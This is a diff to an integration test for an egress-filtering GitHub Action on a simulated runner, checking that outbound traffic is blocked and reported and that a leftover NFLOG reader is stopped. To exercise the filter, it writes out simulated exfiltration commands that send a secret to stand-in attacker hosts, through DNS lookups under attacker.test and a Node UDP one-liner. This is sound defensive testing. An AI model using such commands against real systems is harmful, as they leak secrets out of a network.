@@ -36,13 +36,16 @@ async function jobSteps(exec: Executor, world: World): Promise<StepResults> {
     preinstall: await exec(process.execPath, ['-e', preinstall], { CA: world.caFile }),
     dnsViaResolver: await exec('dig', ['+tries=1', '+time=3', `${SECRET}.exfil.attacker.test`]),
     dnsDirect: await exec('dig', ['+tries=1', '+time=3', `@${NET.dns}`, `${SECRET}.direct.attacker.test`]),
-    // UDP but DNS (QUIC-like) is not proxied: the rules refuse it in block mode, and the built-in NFLOG reader makes it
-    // an event (the simulated runner has ulogd installed; the action prefers its own reader, as on GitHub's images).
-    udp: await exec(process.execPath, [
-      '-e',
-      `const s = require('dgram').createSocket('udp4'); s.send('${SECRET}', 9999, '${NET.attacker}', () => setTimeout(() => s.close(), 300));`,
-    ]),
+    udp: await udpDatagram(exec),
   };
+}
+
+/**
+ * UDP but DNS (QUIC-like) is not proxied: the rules refuse it in block mode, and the built-in NFLOG reader makes it
+ * an event (the simulated runner has ulogd installed; the action prefers its own reader, as on GitHub's images).
+ */
+function udpDatagram(exec: Executor): Promise<CommandResult> {
+  return exec(process.execPath, ['-e', `const s = require('dgram').createSocket('udp4'); s.send('${SECRET}', 9999, '${NET.attacker}', () => setTimeout(() => s.close(), 300));`]);
 }
 
 /** As `runner`, in the job's environment. */
@@ -424,6 +427,27 @@ describe('GitHub Action on a simulated GitHub-hosted runner', { timeout: 600_000
       assert.match(post.stdout, /sudo is disabled for this job, so egress-guard and its rules stay/);
       assert.match(post.stdout, annotation('error', 'blocked', 'attacker\\.test:53'));
       assert.match(post.stdout, /^::warning title=egress-guard exited during the job::egress-guard exited during the job .*block mode kept the redirect rules/m);
+
+      // The next job on this runner (self-hosted): its admin has undone disable-sudo and the network (the action's own
+      // teardown, as root), but the NFLOG reader this job left still holds the group. The next main stops it (told by
+      // this job's record), so the next job's refused UDP is an event again.
+      const reader = 'egress-guard.js rules log-reader';
+      assert.equal((await runner.asRoot('pgrep', ['-f', reader])).code, 0, 'the reader of the disable-sudo job is not running');
+      const tidy = await runner.asRoot('sh', ['-c', 'rm -f /etc/sudoers.d/zzzz-egress-guard-disable-sudo && /var/lib/egress-guard/app/node /var/lib/egress-guard/app/teardown.js']);
+      assert.equal(tidy.code, 0, tidy.stderr);
+      const next = runner.newJob('nosudo-next', { 'egress-policy': 'block', 'allowed-endpoints': ALLOWED, 'trusted-ranges': TRUSTED });
+      const nextMain = await runner.runAction(next, 'main');
+      assert.equal(nextMain.code, 0, `the next job's main failed:\n${nextMain.stdout}\n${nextMain.stderr}`);
+      assert.match(
+        nextMain.stdout,
+        /an earlier job's NFLOG reader \(built-in, pid \d+, told by its pid and start time, from that job's record\) still held the NFLOG group: stopped/,
+      );
+      assert.match(nextMain.stdout, /packets the rules refuse or report are read by its built-in NFLOG reader/);
+      await udpDatagram(asJobStep(runner, next));
+      const nextPost = await runner.runAction(next, 'post');
+      assert.equal(nextPost.code, 0, nextPost.stdout);
+      assert.match(nextPost.stdout, annotation('error', 'blocked', `${escapeRegExp(NET.attacker)}:9999`), "the next job's refused UDP is not reported");
+      await waitFor('post to stop the next NFLOG reader', async () => (await runner.asRoot('pgrep', ['-f', reader])).code === 1, 10_000);
     } finally {
       await runner.stop();
     }
